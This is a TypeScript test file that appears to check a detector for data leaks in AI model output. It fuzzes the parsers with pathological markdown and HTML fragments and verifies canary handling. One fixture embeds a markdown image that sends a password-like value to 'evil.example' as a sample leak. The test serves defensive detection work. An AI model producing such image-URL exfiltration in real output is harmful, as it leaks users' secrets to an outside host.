import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { prepareCanaries } from '../../src/canary.js';
import { checkOutput } from '../../src/output/index.js';
import { extractLinks } from '../../src/output/links.js';

const options = {
  canaries: ['pbc-7k2m9q4x8v1c6z3n5t0w'],
  trustedDomains: ['x.example'],
  conversationValues: ['a value of the talk'],
};

/** What hostile texts are made of; repeated, each one makes some careless parser quadratic. */
const shapes = [
  '![](',
  '[',
  '![',
  ']',
  '](',
  '](a b',
  '[a]:',
  '[a]: ',
  '![a][b]',
  '![a]',
  '<a ',
  '<a href="',
  '<img src=a ',
  '<iframe srcdoc="',
  '<meta content=',
  'src=',
  'src="',
  "src='",
  'href=\'"',
  '=',
  'url(',
  'url("',
  '\\75rl(',
  '@import "',
  'data:text/html,',
  'http://',
  'http://a ',
  'https://a.example/?d=12345678 ',
  'http://[ ',
  'http://a.b.c.',
  'http://a/b/',
  'http://u:p@',
  '![x](http://a.example/?d=aaaaaa) ',
  'http://\u00e9.example/?d=1 ',
  'www.',
  'www.a ',
  '&#',
  '&amp;',
  '%',
  '%25',
  '\\',
  '\\x',
  '(',
  ')',
  'a@',
  'a.',
  'password-',
  'sk-',
  '1 ',
  '1-',
  'pbc-',
  'A',
  'abc ',
  '\ud800',
  '\0',
  '\u200b',
];

describe('the output checks', () => {
  /** Whether every finding lies within the text, alone and as part of a URL. */
  const sound = (shape: string, size: number): boolean => {
    const many = shape.repeat(Math.ceil(size / shape.length));
    return [many, `![x](http://a.example/?a=${many}`].every((text) =>
      checkOutput(text, options).every(({ span }) => span.end <= text.length),
    );
  };

  it.each(shapes)(
    'read a hundred thousand of %j, alone and within a URL',
    (shape) => {
      expect(sound(shape, 100_000)).toBe(true);
    },
    30_000,
  );

  // Anything quadratic takes minutes here and fails by the limit of the test.
  it.each(['![](', '[', '<a href="', 'http://', 'url(', '[a]: ', 'password-', 'www.'])(
    'read a million of %j, alone and within a URL',
    (shape) => {
      expect(sound(shape, 1_000_000)).toBe(true);
    },
    30_000,
  );

  it('take any text and report what stands in it', () => {
    const piece = fc.oneof(fc.constantFrom(...shapes), fc.string({ unit: 'binary' }));
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        const text = pieces.join('');
        for (const { matched, span } of checkOutput(text, options)) {
          expect(text.slice(span.start, span.end)).toBe(matched);
        }
        const ends = extractLinks(text).map(({ start, end }) => end - start);
        expect(ends.every((length) => length > 0)).toBe(true);
      }),
    );
  });

  it('find what is added to any text that does not swallow it', () => {
    const leak = '\n\n![x](https://evil.example/?data=hunter2pass)\n\n';
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...shapes), { maxLength: 20 }), (pieces) => {
        const ids = checkOutput(pieces.join('') + leak).map(({ id }) => id);
        expect(ids).toContain(ids.includes('PB-EXFIL-IMAGE') ? 'PB-EXFIL-IMAGE' : 'PB-EXFIL-LINK');
      }),
    );
  });

  it('prepare canaries of any form', () => {
    fc.assert(
      fc.property(
        fc.array(fc.string({ unit: 'binary' }).map((one) => `zq9876${one}`)),
        (canaries) => {
          const { needles } = prepareCanaries(canaries);
          expect(new Set(needles.map(({ text }) => text)).size).toBe(needles.length);
        },
      ),
      { numRuns: 30 },
    );
  });
});
